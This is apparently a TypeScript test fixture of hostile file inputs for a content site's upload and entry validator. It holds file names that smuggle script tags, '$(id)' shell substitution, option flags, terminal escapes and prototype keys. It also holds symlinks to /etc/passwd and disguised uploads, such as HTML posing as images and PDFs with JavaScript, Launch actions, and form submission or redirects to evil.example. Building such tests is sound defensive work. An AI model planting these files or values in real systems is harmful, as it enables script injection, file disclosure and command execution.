/** Names and kinds of files: entries at wrong places, links, uploads that are something else. */
import { deflateSync } from 'node:zlib';

import { asFiles, least, type HostileInput } from './input.ts';

const seite = `---\n${Object.entries(least.seiten)
  .map(([key, value]) => `${key}: ${value}\n`)
  .join('')}---\n\nText\n`;

const names = asFiles('Names of entries', [
  ['a module', 'src/content/seiten/boese.ts', 'export default alert(1)', 'datei 1'],
  ['a module of JavaScript', 'src/content/seiten/boese.mjs', 'export default alert(1)', 'datei 1'],
  ['a component', 'src/content/seiten/boese.astro', '---\nalert(1)\n---', 'datei 1'],
  ['a page', 'src/content/seiten/boese.html', '<script>alert(1)</script>', 'datei 1'],
  ['an SVG', 'src/content/seiten/boese.svg', '<svg onload="alert(1)"/>', 'datei 1'],
  ['Markdown without MDX', 'src/content/seiten/boese.md', seite, 'datei 1'],
  ['YAML where texts are', 'src/content/seiten/boese.yaml', 'titel: a', 'datei 1'],
  ['a text where YAML is', 'src/content/indikatoren/boese.mdx', seite, 'datei 1'],
  ['YAML with another ending', 'src/content/indikatoren/boese.yml', 'standort: weimar', 'datei 1'],
  ['two endings', 'src/content/seiten/boese.ts.mdx', seite, 'datei 1'],
  ['capitals', 'src/content/seiten/Boese.mdx', seite, 'datei 1'],
  ['an ending in capitals', 'src/content/seiten/boese.MDX', seite, 'datei 1'],
  ['a space', 'src/content/seiten/bo ese.mdx', seite, 'datei 1'],
  ['a percent sign', 'src/content/seiten/%2e%2e%2fboese.mdx', seite, 'datei 1'],
  [
    'a quotation mark and a bracket',
    'src/content/seiten/"><img src=x onerror=alert(1)>.mdx',
    seite,
    'datei 1',
  ],
  ['a command for a shell', 'src/content/seiten/$(id).mdx', seite, 'datei 1'],
  ['an option for a program', 'src/content/seiten/--config.mdx', seite, 'datei 1'],
  ['a line break', 'src/content/seiten/a\n::error::b.mdx', seite, 'datei 1'],
  ['an escape of the terminal', 'src/content/seiten/a\u001b[2J.mdx', seite, 'datei 1'],
  ['a mark of direction', 'src/content/seiten/a\u202exdm.mdx', seite, 'datei 1'],
  ['a letter of another script', 'src/content/seiten/b\u043eese.mdx', seite, 'datei 1'],
  ['an umlaut in two parts', 'src/content/seiten/bo\u0308se.mdx', seite, 'datei 1'],
  ['the prototype', 'src/content/seiten/__proto__.mdx', seite, 'datei 1'],
  ['nothing but an ending', 'src/content/seiten/-.mdx', seite, 'datei 1'],
  ['a folder within', 'src/content/seiten/admin/boese.mdx', seite, 'datei 1'],
  ['a folder that is none of ours', 'src/content/boese/boese.mdx', seite, 'datei 1'],
  ['a folder with the name of the prototype', 'src/content/__proto__/boese.mdx', seite, 'datei 1'],
  [
    'a folder with the name of the constructor',
    'src/content/constructor/boese.mdx',
    seite,
    'datei 1',
  ],
  ['no folder', 'src/content/boese.mdx', seite, 'datei 1'],
  ['hidden settings of Git', 'src/content/.gitattributes', '* -diff', 'datei 1'],
  ['a hidden text', 'src/content/seiten/.boese.mdx', seite, 'datei 1'],
  ['a hidden folder', 'src/content/.boese/boese.mdx', seite, 'datei 1'],
  ['more letters than disks take', `src/content/seiten/${'a'.repeat(200)}.mdx`, seite, 'datei 1'],
  ['settings for content', 'src/content/config.ts', 'export const collections = {}', 'datei 1'],
]);

const linked = asFiles('Links on the disk', [
  [
    'an entry that is a file of the machine',
    'src/content/seiten/verknuepft-1.mdx',
    { target: '/etc/passwd' },
    'datei 1',
  ],
  [
    'an entry that is a file above',
    'src/content/seiten/verknuepft-2.mdx',
    { target: '../../../package.json' },
    'datei 1',
  ],
  [
    'an entry that is another entry',
    'src/content/seiten/verknuepft-3.mdx',
    { target: 'impressum.mdx' },
    'datei 1',
  ],
  [
    'an entry that is nowhere',
    'src/content/seiten/verknuepft-4.mdx',
    { target: 'nirgends.mdx' },
    'datei 1',
  ],
  [
    'an entry that is itself',
    'src/content/seiten/verknuepft-5.mdx',
    { target: 'verknuepft-5.mdx' },
    'datei 1',
  ],
  ['a folder that is another', 'src/content/verknuepft', { target: '/etc' }, 'datei 1'],
  [
    'a picture that is a file of the machine',
    'public/uploads/verknuepft.png',
    { target: '/etc/passwd' },
    'datei 1',
  ],
  [
    'a folder of uploads that is another',
    'public/uploads/verknuepft',
    { target: '/etc' },
    'datei 1',
  ],
]);

const bytes = (...values: number[]) => Uint8Array.from(values);
const latin1 = (text: string) => Uint8Array.from(Buffer.from(text, 'latin1'));

/** One white pixel. */
const png = Uint8Array.from(
  Buffer.from(
    'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
    'base64',
  ),
);
const pdf = (objects: string) => latin1(`%PDF-1.7\n1 0 obj\n${objects}\nendobj\n%%EOF\n`);
const packed = Buffer.from(deflateSync('2 0 << /S /JavaScript /JS (app.alert(1)) >>'));

const uploads = asFiles('Uploads', [
  ['a picture', 'public/uploads/probe.png', png, 'harmless'],
  [
    'a PDF',
    'public/uploads/probe.pdf',
    pdf('<< /Type /Catalog /OpenAction [3 0 R /Fit] >>'),
    'harmless',
  ],
  ['what Git needs, with something in it', 'public/uploads/.gitkeep', 'Text', 'datei 1'],
  ['a picture that is cut off', 'public/uploads/halb.png', png.subarray(0, 40), 'datei 1'],
  ['a page', 'public/uploads/boese.html', '<script>alert(1)</script>', 'datei 1'],
  ['an SVG', 'public/uploads/probe.svg', '<svg onload="alert(1)"/>', 'datei 1'],
  ['a script', 'public/uploads/boese.js', 'alert(1)', 'datei 1'],
  ['a style', 'public/uploads/boese.css', '* {}', 'datei 1'],
  ['a program', 'public/uploads/boese.wasm', bytes(0, 0x61, 0x73, 0x6d), 'datei 1'],
  ['settings of a server', 'public/uploads/htaccess', 'AddType text/html .png', 'datei 1'],
  ['hidden settings of a server', 'public/uploads/.htaccess', 'AddType text/html .png', 'datei 1'],
  [
    'a page with two endings',
    'public/uploads/boese.png.html',
    '<script>alert(1)</script>',
    'datei 1',
  ],
  ['a picture with two endings', 'public/uploads/boese.php.png', png, 'datei 1'],
  ['a name with a space', 'public/uploads/boe se.png', png, 'datei 1'],
  ['a name with a line break', 'public/uploads/a\nb.png', png, 'datei 1'],
  ['a name with an option', 'public/uploads/-rf.png', png, 'datei 1'],
  ['a name with a quotation mark', `public/uploads/"onerror="alert(1).png`, png, 'datei 1'],
  ['a folder', 'public/uploads/ordner/probe.png', png, 'datei 1'],
  [
    'a page that says it is a PNG',
    'public/uploads/seite.png',
    '<!doctype html><script>alert(1)</script>',
    'datei 1',
  ],
  [
    'an SVG that says it is a PNG',
    'public/uploads/svg.png',
    '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    'datei 1',
  ],
  [
    'a page that says it is a JPEG',
    'public/uploads/seite.jpg',
    '<script>alert(1)</script>',
    'datei 1',
  ],
  ['a page that says it is a GIF', 'public/uploads/seite.gif', '<html>', 'datei 1'],
  [
    'a page that says it is a WebP',
    'public/uploads/seite.webp',
    'RIFF<script>alert(1)</script>',
    'datei 1',
  ],
  [
    'a page that says it is an AVIF',
    'public/uploads/seite.avif',
    '<svg onload="alert(1)"/>',
    'datei 1',
  ],
  [
    'a page that says it is a PDF',
    'public/uploads/seite.pdf',
    '<script>alert(1)</script>',
    'datei 1',
  ],
  ['a PNG that says it is a JPEG', 'public/uploads/png.jpg', png, 'datei 1'],
  [
    'a program that says it is a PDF',
    'public/uploads/programm.pdf',
    bytes(0x4d, 0x5a, 0x90, 0),
    'datei 1',
  ],
  [
    'a PDF behind a page',
    'public/uploads/beides.pdf',
    '<script>alert(1)</script>%PDF-1.7',
    'datei 1',
  ],
  ['nothing', 'public/uploads/leer.png', '', 'datei 1'],
  [
    'a PDF with a script',
    'public/uploads/skript.pdf',
    pdf('<< /OpenAction << /S /JavaScript /JS (app.alert(1)) >> >>'),
    'datei 1',
  ],
  [
    'a PDF with a script in other letters',
    'public/uploads/skript-2.pdf',
    pdf('<< /S /J#61vaScript /J#53 (app.alert(1)) >>'),
    'datei 1',
  ],
  [
    'a PDF with a packed script',
    'public/uploads/skript-3.pdf',
    Uint8Array.from(
      Buffer.concat([
        Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n'),
        packed,
        Buffer.from('\nendstream\nendobj\n%%EOF\n'),
      ]),
    ),
    'datei 1',
  ],
  [
    'a PDF that starts a program',
    'public/uploads/start.pdf',
    pdf('<< /S /Launch /F (calc.exe) >>'),
    'datei 1',
  ],
  [
    'a PDF that sends a form',
    'public/uploads/formular.pdf',
    pdf('<< /S /SubmitForm /F (https://evil.example/) >>'),
    'datei 1',
  ],
  [
    'a PDF with a file in it',
    'public/uploads/datei.pdf',
    pdf('<< /Type /EmbeddedFile >>'),
    'datei 1',
  ],
  [
    'a PDF with a file in it that has no type',
    'public/uploads/datei-2.pdf',
    pdf('<< /EF << /F 2 0 R >> >>'),
    'datei 1',
  ],
  [
    'a PDF that opens a page of another',
    'public/uploads/oeffnet.pdf',
    pdf('<< /OpenAction << /S /URI /URI (https://evil.example/) >> >>'),
    'datei 1',
  ],
  [
    'a PDF with a link to a script',
    'public/uploads/link.pdf',
    pdf('<< /A << /S /URI /URI (javascript:alert\\(1\\)) >> >>'),
    'datei 1',
  ],
  ['a PDF with a film', 'public/uploads/film.pdf', pdf('<< /Subtype /RichMedia >>'), 'datei 1'],
]);

export const files: HostileInput[] = [...names, ...linked, ...uploads];
